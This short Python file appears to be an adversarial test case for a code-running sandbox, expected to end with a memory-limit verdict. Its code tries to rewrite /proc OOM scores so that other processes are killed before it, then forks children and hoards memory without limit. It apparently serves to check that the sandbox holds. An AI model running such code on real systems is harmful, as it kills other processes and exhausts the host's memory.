# technique: the program makes itself the last one to be killed for memory, and tries so for others
# source: proc_pid_oom_score_adj(5)
# verdict: MLE
# invariant: the one with the memory dies, the runner does not
# without: seccomp capabilities
import os

for pid in filter(str.isdigit, os.listdir("/proc")):
    for score in ("-1000", "-500", "0"):
        try:
            with open(f"/proc/{pid}/oom_score_adj", "w") as file:
                file.write(score if int(pid) == os.getpid() else "1000")
        except OSError as refused:
            print("held", refused.errno, flush=True)
children = []
while True:
    if len(children) < 20:
        children.append(os.fork())
    hoard = bytearray(os.urandom(1 << 20)) * 30
